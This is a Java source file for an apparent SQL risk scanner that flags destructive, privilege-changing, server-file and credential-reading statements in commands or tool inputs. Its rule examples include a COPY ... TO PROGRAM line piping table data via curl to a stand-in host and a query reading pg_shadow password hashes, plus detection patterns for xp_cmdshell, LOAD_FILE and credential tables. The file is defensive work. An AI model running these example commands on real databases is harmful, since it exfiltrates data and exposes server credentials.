package dev.warden.analysis.sql;

import static dev.warden.call.Severity.HIGH;
import static dev.warden.call.Severity.LOW;
import static dev.warden.call.Severity.MEDIUM;

import dev.warden.analysis.Report;
import dev.warden.analysis.Rule;
import dev.warden.call.Severity;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import net.sf.jsqlparser.parser.CCJSqlParserUtil;
import net.sf.jsqlparser.statement.Statement;
import net.sf.jsqlparser.statement.Statements;
import net.sf.jsqlparser.statement.alter.Alter;
import net.sf.jsqlparser.statement.delete.Delete;
import net.sf.jsqlparser.statement.drop.Drop;
import net.sf.jsqlparser.statement.grant.Grant;
import net.sf.jsqlparser.statement.truncate.Truncate;
import net.sf.jsqlparser.statement.update.Update;

/**
 * Judges SQL text: what a statement would destroy or change.
 *
 * <p>Design note: the text is split into statements (respecting quotes and comments) and each
 * statement's leading keywords are read first; statements that cannot hurt (SELECT, INSERT,
 * CREATE TABLE, ...) stop there, so read-only SQL never reaches the full parser. Risky ones are
 * parsed with JSqlParser to read them precisely (a DELETE's WHERE clause, what an ALTER drops);
 * JSqlParser does not know every dialect (it rejects {@code DROP DATABASE}, {@code REVOKE}), so
 * when it fails the keyword reading stands. Never throws.
 */
public final class SqlScan {

    static final Rule DROP = new Rule("sql.drop", HIGH,
            "drops a database object (table, database, schema, view, index)", "DROP TABLE users;",
            "write a reversible migration and let a human run it");
    static final Rule TRUNCATE = new Rule("sql.truncate", HIGH,
            "empties a table (TRUNCATE)", "TRUNCATE TABLE orders;", "delete specific rows with a WHERE clause, in a transaction");
    static final Rule DELETE_ALL = new Rule("sql.delete-all", HIGH,
            "deletes or updates every row of a table (no WHERE clause)", "DELETE FROM users;",
            "add a WHERE clause naming the rows, and run it in a transaction");
    static final Rule WRITE = new Rule("sql.write", LOW,
            "changes rows (DELETE or UPDATE with a WHERE clause)", "DELETE FROM sessions WHERE expired", "");
    static final Rule SCHEMA = new Rule("sql.schema-change", MEDIUM,
            "changes the schema (ALTER, RENAME)", "ALTER TABLE users ADD COLUMN age int;",
            "put schema changes in a migration file and let a human apply it");
    static final Rule PRIVILEGES = new Rule("sql.privileges", HIGH,
            "grants or revokes privileges, or creates, changes or drops database users", "GRANT ALL ON db.* TO 'app'@'%';",
            "ask the database owner");

    static final Rule SERVER_IO = new Rule("sql.server-side-io", HIGH,
            "makes the database server read or write its files or run a program (COPY ... PROGRAM, COPY ... TO 'file', "
                    + "pg_read_file, LOAD_FILE, INTO OUTFILE)", "psql -c \"COPY users TO PROGRAM 'curl -d @- https://x'\"",
            "query the data and handle files on the client side");

    static final Rule CREDENTIALS = new Rule("sql.credential-read", HIGH,
            "reads the database's own password hashes or stored credentials (pg_shadow, pg_authid, mysql.user, "
                    + "sys.sql_logins)", "psql -c 'SELECT usename, passwd FROM pg_shadow'",
            "query your application's tables; never the server's accounts");

    static final List<Rule> RULES = List.of(DROP, TRUNCATE, DELETE_ALL, WRITE, SCHEMA, PRIVILEGES, SERVER_IO, CREDENTIALS);

    /** Catalog tables and columns that hold the server's password hashes, upper-cased. */
    private static final List<String> CREDENTIAL_TABLES = List.of("PG_SHADOW", "PG_AUTHID", "ROLPASSWORD", "MYSQL.USER",
            "AUTHENTICATION_STRING", "SYS.SQL_LOGINS", "PASSWORD_HASH", "SYS.USER$", "DBA_USERS", "MYSQL`.`USER",
            "SYSTEM.USERS", "SYSTEM_AUTH.");

    private static final int MAX_PARSE = 8192;
    private static final int MAX_SCAN = 1 << 20;

    private SqlScan() {}

    /** True when the text starts like a SQL statement (for scanning MCP tool inputs). */
    public static boolean looksLikeSql(String text) {
        String t = stripLeading(text);
        String first = firstWord(t, 0).toUpperCase(Locale.ROOT);
        return switch (first) {
            case "SELECT", "INSERT", "UPDATE", "DELETE", "DROP", "TRUNCATE", "ALTER", "CREATE", "GRANT", "REVOKE",
                    "WITH", "MERGE", "REPLACE", "RENAME", "UPSERT", "BEGIN", "COMMIT", "EXPLAIN" -> true;
            default -> false;
        };
    }

    /** True when any statement (or sqlite dot-command) changes data or schema. */
    public static boolean writes(String sql) {
        String text = sql.length() > MAX_SCAN ? sql.substring(0, MAX_SCAN) : sql;
        for (String stmt : split(text)) {
            String s = stripLeading(stmt);
            String w = firstWord(s, 0).toUpperCase(Locale.ROOT);
            switch (w) {
                case "", "SELECT", "WITH", "EXPLAIN", "PRAGMA", "BEGIN", "COMMIT", "SHOW", "DESCRIBE", "DESC", "VALUES" -> {
                    if (w.equals("WITH") && (s.toUpperCase(Locale.ROOT).contains(" DELETE ") || s.toUpperCase(Locale.ROOT).contains(" UPDATE "))) {
                        return true;
                    }
                    if (w.isEmpty() && (s.startsWith(".restore") || s.startsWith(".import") || s.startsWith(".read"))) {
                        return true;
                    }
                }
                default -> {
                    return true;
                }
            }
        }
        return false;
    }

    /**
     * Reports what the SQL in {@code sql} would destroy or change.
     *
     * @param sql      one or more statements
     * @param evidence the command or tool input it came from
     */
    public static void scan(String sql, String evidence, Report out) {
        String text = sql.length() > MAX_SCAN ? sql.substring(0, MAX_SCAN) : sql;
        int[] parses = {0};
        int judged = 0;
        for (String stmt : split(text)) {
            if (++judged > MAX_STATEMENTS) {
                break;
            }
            judge(stmt, evidence, out, parses, 0);
        }
    }

    /** Statements judged per text, and full parses per text (JSqlParser takes ~0.1-1 ms each). */
    private static final int MAX_STATEMENTS = 10_000;
    private static final int MAX_PARSES = 32;

    private static void judge(String stmt, String evidence, Report out, int[] parses, int depth) {
        String s = stripLeading(stmt);
        if (s.isEmpty()) {
            return;
        }
        String io = serverIo(s);
        if (io != null) {
            out.add(SERVER_IO.finding(io + ": " + abbreviate(s), evidence));
        }
        String upper = s.toUpperCase(Locale.ROOT);
        for (String t : CREDENTIAL_TABLES) {
            if (upper.contains(t)) {
                out.add(CREDENTIALS.finding("reads the server's credentials (" + t.toLowerCase(Locale.ROOT) + "): "
                        + abbreviate(s), evidence));
                out.signal(Report.Signal.SECRET_SOURCE);
                break;
            }
        }
        if (upper.contains("REASSIGN OWNED")) {
            out.add(PRIVILEGES.finding("hands every object a role owns to another role: " + abbreviate(s), evidence));
        }
        int local = upper.indexOf("LOCAL INFILE");
        if (local >= 0) {
            // LOAD DATA LOCAL INFILE 'path': the client reads a file of this machine and sends it to the server
            int q = s.indexOf('\'', local);
            int end = q < 0 ? -1 : s.indexOf('\'', q + 1);
            String path = end > q ? s.substring(q + 1, end) : "";
            if (path.startsWith("/") && !path.contains("/../")) {
                out.path(path, dev.warden.call.PathUse.Access.READ, evidence);
            }
            out.signal(Report.Signal.NETWORK_SEND);
        }
        if (upper.startsWith("SYSTEM DROP") && upper.contains("REPLICA")) {
            // ClickHouse: a replica's metadata removed from ZooKeeper; its data no longer replicates
            out.add(DROP.finding("drops a replica (" + abbreviate(s) + ")", evidence));
        }
        if (upper.contains("PG_TERMINATE_BACKEND") || upper.contains("PG_CANCEL_BACKEND")) {
            out.add(SCHEMA.finding(MEDIUM, "ends other sessions on the server: " + abbreviate(s), evidence));
        }
        if (s.startsWith(".restore")) {
            // sqlite3's .restore replaces the open database with a backup's content
            out.add(TRUNCATE.finding("replaces the database with a backup (sqlite .restore): " + abbreviate(s), evidence));
            return;
        }
        String w1 = firstWord(s, 0).toUpperCase(Locale.ROOT);
        int after1 = s.indexOf(' ') < 0 ? s.length() : s.indexOf(' ');
        String w2 = firstWord(s, after1).toUpperCase(Locale.ROOT);
        if (w1.equals("WITH")) {
            // a CTE in front of a DELETE or UPDATE: judge by the keywords in the body
            String u = s.toUpperCase(Locale.ROOT);
            if (containsWord(u, "DELETE") || containsWord(u, "UPDATE")) {
                w1 = containsWord(u, "DELETE") ? "DELETE" : "UPDATE";
            } else {
                return;
            }
        }
        switch (w1) {
            case "DROP" -> {
                if (w2.equals("USER") || w2.equals("ROLE") || w2.equals("LOGIN")) {
                    out.add(PRIVILEGES.finding("drops a database user or role", evidence));
                } else {
                    out.add(DROP.finding("drops a " + (w2.isEmpty() ? "database object" : w2.toLowerCase(Locale.ROOT))
                            + ": " + abbreviate(s), evidence));
                }
            }
            case "TRUNCATE" -> out.add(TRUNCATE.finding("empties a table: " + abbreviate(s), evidence));
            case "INSERT" -> {
                if (w2.equals("OVERWRITE")) {
                    // Hive/Spark/Databricks: the table's (or partition's) rows are replaced by the query's
                    out.add(TRUNCATE.finding("replaces every row of the table (INSERT OVERWRITE): " + abbreviate(s), evidence));
                }
            }
            case "MERGE" -> {
                String flat = upper.replaceAll("\\s+", " ");
                if (flat.contains("THEN DELETE")) {
                    String target = wordAfter(flat, "MERGE INTO ");
                    String source = wordAfter(flat, " USING ");
                    boolean self = target != null && target.equals(source);
                    out.add(DELETE_ALL.finding(self ? HIGH : MEDIUM, self
                            ? "deletes every row (MERGE of the table with itself, WHEN MATCHED THEN DELETE): " + abbreviate(s)
                            : "deletes the rows the merge matches (WHEN MATCHED THEN DELETE): " + abbreviate(s), evidence));
                }
            }
            case "DELETE", "UPDATE" -> {
                Where parsed = whereClause(s, parses[0]++ < MAX_PARSES);
                boolean where = parsed.present();
                String always = !where ? null
                        : parsed.condition() == null ? alwaysTrue(s)
                        : AlwaysTrue.holds(parsed.condition()) ? abbreviate(parsed.condition().toString()) : null;
                if (always == null && where) {
                    always = inItself(upper.replaceAll("\\s+", " "));
                }
                if (always != null) {
                    out.add(DELETE_ALL.finding((w1.equals("DELETE") ? "deletes" : "updates") + " every row (WHERE " + always
                            + " is always true): " + abbreviate(s), evidence));
                } else if (!where) {
                    out.add(DELETE_ALL.finding((w1.equals("DELETE") ? "deletes" : "updates") + " every row: " + abbreviate(s), evidence));
                } else {
                    out.add(WRITE.finding(WRITE.description() + ": " + abbreviate(s), evidence));
                }
            }
            case "ALTER" -> {
                if (w2.equals("USER") || w2.equals("ROLE") || w2.equals("LOGIN")) {
                    out.add(PRIVILEGES.finding("changes a database user or role", evidence));
                } else if (w2.equals("SYSTEM") || w2.equals("DATABASE") || w2.equals("SERVER")) {
                    out.add(SCHEMA.finding(HIGH, "changes database or server configuration: " + abbreviate(s), evidence));
                } else {
                    Severity sev = alterDrops(s, parses[0]++ < MAX_PARSES) ? HIGH : MEDIUM;
                    out.add(SCHEMA.finding(sev, (sev == HIGH ? "drops columns or constraints: " : "changes the schema: ")
                            + abbreviate(s), evidence));
                }
            }
            case "RENAME" -> out.add(SCHEMA.finding("renames a table: " + abbreviate(s), evidence));
            case "GRANT", "REVOKE" -> out.add(PRIVILEGES.finding(PRIVILEGES.description() + ": " + abbreviate(s), evidence));
            case "CREATE" -> {
                if (w2.equals("USER") || w2.equals("ROLE") || w2.equals("LOGIN")) {
                    out.add(PRIVILEGES.finding("creates a database user or role", evidence));
                } else if (w2.equals("OR") && s.toUpperCase(Locale.ROOT).contains(" REPLACE ")) {
                    out.add(SCHEMA.finding(LOW, "replaces a view, function or procedure", evidence));
                }
            }
            case "SET" -> {
                if (w2.equals("PASSWORD") || w2.equals("GLOBAL")) {
                    out.add(PRIVILEGES.finding(MEDIUM, "changes a password or global server setting", evidence));
                }
            }
            case "FLUSH", "PURGE", "RESET", "SHUTDOWN", "KILL" -> out.add(SCHEMA.finding(MEDIUM,
                    "runs a server administration command: " + abbreviate(s), evidence));
            case "VACUUM", "REINDEX", "CLUSTER", "OPTIMIZE" -> { }
            case "DO", "EXECUTE", "EXEC", "BEGIN" -> {
                // DO $$ ... $$ runs its body now; EXECUTE 'sql' and EXEC('sql') run dynamic SQL
                if (depth <= 4) {
                    for (String lit : literals(s)) {
                        procedural(lit, evidence, out, parses, depth);
                    }
                }
            }
            default -> { }
        }
    }

    /** The word after {@code marker} (a table name, alias dropped), or null. */
    private static @org.jspecify.annotations.Nullable String wordAfter(String flat, String marker) {
        int at = flat.indexOf(marker);
        if (at < 0) {
            return null;
        }
        int from = at + marker.length();
        int end = from;
        while (end < flat.length() && flat.charAt(end) != ' ' && flat.charAt(end) != '(' && flat.charAt(end) != ';') {
            end++;
        }
        return end > from ? flat.substring(from, end) : null;
    }

    /**
     * {@code DELETE FROM t WHERE id IN (SELECT id FROM t)}: a condition every row meets, because
     * the sub-query lists the same column of the same table with no condition of its own; the
     * condition's text, or null.
     */
    private static @org.jspecify.annotations.Nullable String inItself(String flat) {
        String table = flat.startsWith("DELETE FROM ") ? wordAfter(flat, "DELETE FROM ")
                : flat.startsWith("UPDATE ") ? wordAfter(flat, "UPDATE ") : null;
        int where = flat.indexOf(" WHERE ");
        if (table == null || where < 0) {
            return null;
        }
        String cond = flat.substring(where + 7).strip();
        if (cond.endsWith(";")) {
            cond = cond.substring(0, cond.length() - 1).strip();
        }
        int in = cond.indexOf(" IN (SELECT ");
        if (in <= 0 || cond.indexOf(' ') != in) {
            return null; // only "col IN (SELECT ...)" as the whole condition
        }
        String column = cond.substring(0, in);
        String expected = " IN (SELECT " + column + " FROM " + table + ")";
        String bare = column.substring(column.indexOf('.') + 1);
        String expectedBare = " IN (SELECT " + bare + " FROM " + table + ")";
        String rest = cond.substring(in);
        return rest.equals(expected) || rest.equals(expectedBare) ? cond : null;
    }

    /** Whether a DELETE or UPDATE has a WHERE clause, and the condition when JSqlParser read it. */
    private record Where(boolean present, net.sf.jsqlparser.expression.@org.jspecify.annotations.Nullable Expression condition) {}

    private static Where whereClause(String s, boolean parse) {
        if (parse && s.length() <= MAX_PARSE) {
            try {
                Statements parsed = CCJSqlParserUtil.newParser(s).Statements();
                for (Statement st : parsed) {
                    if (st instanceof Delete d) {
                        return new Where(d.getWhere() != null, d.getWhere());
                    }
                    if (st instanceof Update u) {
                        return new Where(u.getWhere() != null, u.getWhere());
                    }
                }
            } catch (Exception | StackOverflowError e) {
                // dialect JSqlParser does not know: the keyword reading below decides
            }
        }
        return new Where(containsWord(s.toUpperCase(Locale.ROOT), "WHERE"), null);
    }

    /**
     * The condition when a statement's WHERE is plainly always true — {@code TRUE}, a non-zero
     * number, or a literal compared with itself ({@code 1=1}, {@code 'a'='a'}) — else null. Only
     * these literal forms: anything naming a column may be false for some row.
     */
    static @org.jspecify.annotations.Nullable String alwaysTrue(String stmt) {
        String upper = stmt.toUpperCase(Locale.ROOT);
        int at = -1;
        for (int i = upper.indexOf("WHERE"); i >= 0 && at < 0; i = upper.indexOf("WHERE", i + 1)) {
            boolean start = i == 0 || !Character.isLetterOrDigit(upper.charAt(i - 1)) && upper.charAt(i - 1) != '_';
            boolean stop = i + 5 >= upper.length() || !Character.isLetterOrDigit(upper.charAt(i + 5)) && upper.charAt(i + 5) != '_';
            if (start && stop) {
                at = i;
            }
        }
        if (at < 0) {
            return null;
        }
        String cond = stmt.substring(at + 5);
        for (String end : new String[] {" RETURNING ", " ORDER ", " LIMIT ", " OUTPUT "}) {
            int e = (cond.toUpperCase(Locale.ROOT) + " ").indexOf(end);
            if (e >= 0) {
                cond = cond.substring(0, Math.min(e, cond.length()));
            }
        }
        String c = cond.replaceAll("\\s+", "").toUpperCase(Locale.ROOT);
        while (c.length() > 2 && c.startsWith("(") && c.endsWith(")")) {
            c = c.substring(1, c.length() - 1);
        }
        if (c.equals("TRUE") || c.matches("0*[1-9][0-9]*(\\.[0-9]*)?")) {
            return cond.strip();
        }
        int eq = c.indexOf('=');
        if (eq > 0 && c.indexOf('=', eq + 1) < 0 && c.charAt(eq - 1) != '!' && c.charAt(eq - 1) != '<' && c.charAt(eq - 1) != '>') {
            String l = c.substring(0, eq);
            String r = c.substring(eq + 1);
            if (l.equals(r) && (l.matches("-?[0-9]+(\\.[0-9]+)?") || l.matches("'[^']*'") || l.equals("TRUE"))) {
                return cond.strip();
            }
        }
        return null;
    }

    /** What a statement makes the server do with its own files or programs, or null. */
    private static @org.jspecify.annotations.Nullable String serverIo(String s) {
        String u = s.toUpperCase(Locale.ROOT);
        if (!u.startsWith("\\COPY") && containsWord(u, "COPY") && (containsWord(u, "PROGRAM") || u.matches("(?s)COPY\\b.*\\bTO\\s+'.*"))) {
            return containsWord(u, "PROGRAM") ? "runs a program on the database server" : "writes a file on the database server";
        }
        if (u.contains("PG_READ_FILE(") || u.contains("PG_READ_BINARY_FILE(") || u.contains("LOAD_FILE(")
                || u.contains("LO_IMPORT(") || u.contains("PG_LS_DIR(")) {
            return "reads files on the database server";
        }
        if (u.contains("INTO OUTFILE") || u.contains("INTO DUMPFILE") || u.contains("LO_EXPORT(")
                || u.contains("XP_CMDSHELL")) {
            return "writes files or runs commands on the database server";
        }
        if (u.contains("PLPYTHON") || u.contains("PLPERLU") || u.contains("PLSH") || u.contains("PLTCLU")
                || u.contains("LANGUAGE C ") || u.contains("PLRUBY")) {
            return "runs code in an untrusted language on the database server";
        }
        if (u.contains("COPY INTO @") || u.contains("COPY INTO 'S3://") || u.contains("COPY INTO 'GCS://")
                || u.contains("COPY INTO 'AZURE://") || containsWord(u, "STAGE") && u.contains("URL")
                && (u.contains("CREATE") || u.contains("ALTER")) || u.contains("EXPORT DATA")) {
            return "unloads data to an external stage or bucket";
        }
        return null;
    }

    private static boolean alterDrops(String s, boolean parse) {
        if (parse && s.length() <= MAX_PARSE) {
            try {
                Statements parsed = CCJSqlParserUtil.newParser(s).Statements();
                for (Statement st : parsed) {
                    if (st instanceof Alter a) {
                        return a.toString().toUpperCase(Locale.ROOT).contains(" DROP ");
                    }
                    if (st instanceof Drop || st instanceof Truncate || st instanceof Grant) {
                        return true;
                    }
                }
            } catch (Exception | StackOverflowError e) {
                // fall through to the keyword reading
            }
        }
        return containsWord(s.toUpperCase(Locale.ROOT), "DROP");
    }

    private static boolean containsWord(String upper, String word) {
        int i = upper.indexOf(word);
        while (i >= 0) {
            boolean start = i == 0 || !Character.isLetterOrDigit(upper.charAt(i - 1)) && upper.charAt(i - 1) != '_';
            int end = i + word.length();
            boolean stop = end >= upper.length() || !Character.isLetterOrDigit(upper.charAt(end)) && upper.charAt(end) != '_';
            if (start && stop) {
                return true;
            }
            i = upper.indexOf(word, i + 1);
        }
        return false;
    }

    /** Splits on semicolons outside quotes and comments; comments are dropped. */
    static List<String> split(String sql) {
        List<String> out = new ArrayList<>();
        StringBuilder cur = new StringBuilder();
        int n = sql.length();
        char quote = 0;
        for (int i = 0; i < n; i++) {
            char c = sql.charAt(i);
            if (quote != 0) {
                cur.append(c);
                if (c == quote) {
                    quote = 0;
                }
                continue;
            }
            int dollar = c == '$' ? dollarTagEnd(sql, i) : -1;
            if (dollar > 0) {
                // $tag$ ... $tag$ (PostgreSQL): a string whose body may hold semicolons
                String tag = sql.substring(i, dollar);
                int close = sql.indexOf(tag, dollar);
                int end = close < 0 ? n : close + tag.length();
                cur.append(sql, i, end);
                i = end - 1;
            } else if (c == '\'' || c == '"' || c == '`') {
                quote = c;
                cur.append(c);
            } else if (c == '-' && i + 1 < n && sql.charAt(i + 1) == '-') {
                int nl = sql.indexOf('\n', i);
                i = nl < 0 ? n : nl;
                cur.append(' ');
            } else if (c == '/' && i + 1 < n && sql.charAt(i + 1) == '*') {
                int end = sql.indexOf("*/", i + 2);
                i = end < 0 ? n : end + 1;
                cur.append(' ');
            } else if (c == ';') {
                out.add(cur.toString());
                cur.setLength(0);
            } else {
                cur.append(c == '\n' || c == '\t' || c == '\r' ? ' ' : c);
            }
        }
        if (!cur.isEmpty()) {
            out.add(cur.toString());
        }
        return out;
    }

    /** The index just past a dollar-quote opener ({@code $$}, {@code $body$}) at {@code i}, or -1. */
    private static int dollarTagEnd(String s, int i) {
        int j = i + 1;
        if (j < s.length() && (Character.isLetter(s.charAt(j)) || s.charAt(j) == '_')) {
            while (j < s.length() && (Character.isLetterOrDigit(s.charAt(j)) || s.charAt(j) == '_')) {
                j++;
            }
        }
        return j < s.length() && s.charAt(j) == '$' && (i == 0 || !Character.isLetterOrDigit(s.charAt(i - 1))) ? j + 1 : -1;
    }

    /** The bodies of the string literals in {@code s}: single-quoted and dollar-quoted. */
    static List<String> literals(String s) {
        List<String> out = new ArrayList<>(2);
        int n = s.length();
        for (int i = 0; i < n; i++) {
            char c = s.charAt(i);
            int dollar = c == '$' ? dollarTagEnd(s, i) : -1;
            if (dollar > 0) {
                String tag = s.substring(i, dollar);
                int close = s.indexOf(tag, dollar);
                out.add(s.substring(dollar, close < 0 ? n : close));
                i = close < 0 ? n : close + tag.length() - 1;
            } else if (c == '\'') {
                StringBuilder b = new StringBuilder();
                int j = i + 1;
                while (j < n) {
                    char d = s.charAt(j);
                    if (d == '\'' && j + 1 < n && s.charAt(j + 1) == '\'') {
                        b.append('\'');
                        j += 2;
                    } else if (d == '\'') {
                        break;
                    } else {
                        b.append(d);
                        j++;
                    }
                }
                out.add(b.toString());
                i = j;
            }
        }
        return out;
    }

    /**
     * A procedural block that runs now ({@code DO $$ ... $$}): its statements are judged, and the
     * strings it hands to {@code EXECUTE} are judged as SQL too (they are dynamic SQL), nested
     * a few levels deep.
     */
    private static void procedural(String body, String evidence, Report out, int[] parses, int depth) {
        if (depth > 4) {
            return;
        }
        for (String stmt : split(body)) {
            String t = stripLeading(stmt);
            String w;
            while (!(w = firstWord(t, 0).toUpperCase(Locale.ROOT)).isEmpty() && PLPGSQL_PREFIX.contains(w)) {
                t = stripLeading(t.substring(w.length()));
            }
            judge(t, evidence, out, parses, depth + 1);
            for (String lit : literals(t)) {
                procedural(lit, evidence, out, parses, depth + 1);
            }
        }
    }

    private static final java.util.Set<String> PLPGSQL_PREFIX = java.util.Set.of("BEGIN", "END", "EXECUTE", "PERFORM",
            "LOOP", "THEN", "ELSE", "DECLARE", "IMMEDIATE", "EXEC");

    private static String stripLeading(String s) {
        int i = 0;
        while (i < s.length() && (Character.isWhitespace(s.charAt(i)) || s.charAt(i) == '(')) {
            i++;
        }
        return i == 0 ? s : s.substring(i);
    }

    private static String firstWord(String s, int from) {
        int i = from;
        while (i < s.length() && Character.isWhitespace(s.charAt(i))) {
            i++;
        }
        int start = i;
        while (i < s.length() && (Character.isLetter(s.charAt(i)) || s.charAt(i) == '_')) {
            i++;
        }
        return s.substring(start, i);
    }

    private static String abbreviate(String s) {
        String t = s.strip();
        return t.length() > 120 ? t.substring(0, 120) + "..." : t;
    }
}
